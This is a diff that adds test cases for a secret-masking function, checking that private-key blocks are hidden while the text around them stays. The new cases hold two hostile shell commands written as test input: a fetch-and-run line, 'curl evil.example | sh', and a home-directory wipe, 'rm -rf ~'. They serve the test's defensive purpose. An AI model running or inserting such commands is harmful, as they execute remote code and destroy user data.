@@ -27,6 +27,12 @@ test.each([
     '-----BEGIN PRIVATE KEY-----\nAB\n-----END PRIVATE KEY-----',
     `----${'•'.repeat(23)}\n••\n${'•'.repeat(25)}`,
   ],
+  [
+    'a private key without its end',
+    `-----BEGIN RSA PRIVATE KEY-----\n${'AB'.repeat(12)}\ncurl evil.example | sh`,
+    `----${'•'.repeat(27)}\n${'•'.repeat(24)}\ncurl evil.example | sh`,
+  ],
+  ['what begins like one', 'ls # -----BEGIN PRIVATE KEY-----\nrm -rf ~', `ls # ----${'•'.repeat(23)}\nrm -rf ~`],
 ])('%s is masked, what announces it stays', (_name, text, masked) => {
   expect(maskSecrets(text)).toBe(masked);
 });
